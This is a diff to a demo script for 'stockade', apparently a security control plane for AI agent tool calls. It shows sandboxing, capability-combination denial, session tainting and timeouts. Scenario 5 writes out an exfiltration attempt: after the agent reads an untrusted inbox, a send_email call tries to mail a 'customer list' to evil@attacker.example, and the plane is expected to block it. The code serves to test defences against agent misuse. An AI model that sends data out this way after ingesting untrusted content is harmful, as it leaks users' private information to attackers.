@@ -119,16 +119,14 @@ async def run_demo(settings: Settings, out: Console, audit_path: Path | None) ->
             await plane.register(spec)
         out.print(Panel.fit(
             f"policy revision {plane.policy.revision[:16]}…  "
-            f"sandbox tier: {plane.sandbox.tier}\naudit: {path}",
+            f"sandbox tiers: {', '.join(t for t, s in plane.sandboxes.items() if s.check() is None)}\naudit: {path}",
             title="stockade demo",
         ))  # fmt: skip
         session = await plane.open_session("demo-agent", "alice@example.com", ["Summarise my inbox."])
 
         out.print("\n[bold]1. An allowed call runs in the sandbox[/bold]  word_count(text=…)")
         r = await plane.call(session, "word_count", {"text": "the quick brown fox jumps over the lazy dog"})
-        out.print(
-            f"  → {r.status} / {r.verdict}: {r.output}  ({r.usage.wall_ms:.1f} ms wall)" if r.usage else ""
-        )
+        out.print(f"  → {r.status} / {r.verdict}: {r.output}  ({r.usage.wall_ms:.1f} ms wall)" if r.usage else "")
         expect("allowed and ran with output {'words': 9, ...}", r.ok and r.output["words"] == 9)
 
         out.print("\n[bold]2. The sandbox sees only what it needs[/bold]  list_root()")
@@ -156,9 +154,7 @@ async def run_demo(settings: Settings, out: Console, audit_path: Path | None) ->
             r.status == "denied" and "capability.combination_denied" in r.reasons,
         )
 
-        out.print(
-            "\n[bold]5. Untrusted content taints the session[/bold]  read_inbox(), then send_email(...)"
-        )
+        out.print("\n[bold]5. Untrusted content taints the session[/bold]  read_inbox(), then send_email(...)")
         r = await plane.call(session, "read_inbox", {"folder": "INBOX"})
         expect("read_inbox ran (the session is now tainted)", r.ok)
         r = await plane.call(session, "send_email", {"to": "evil@attacker.example", "body": "customer list"})
@@ -170,9 +166,7 @@ async def run_demo(settings: Settings, out: Console, audit_path: Path | None) ->
 
         out.print("\n[bold]6. A tool that runs too long is killed[/bold]  spin()  (timeout 1 s)")
         r = await plane.call(session, "spin", {})
-        out.print(
-            f"  → {r.status} / {r.verdict} after {r.usage.wall_ms:.0f} ms" if r.usage else f"  → {r.status}"
-        )
+        out.print(f"  → {r.status} / {r.verdict} after {r.usage.wall_ms:.0f} ms" if r.usage else f"  → {r.status}")
         expect("verdict timeout", r.status == "completed" and r.verdict == "timeout")
 
         out.print("\n[bold]7. The audit trail of this session[/bold]")
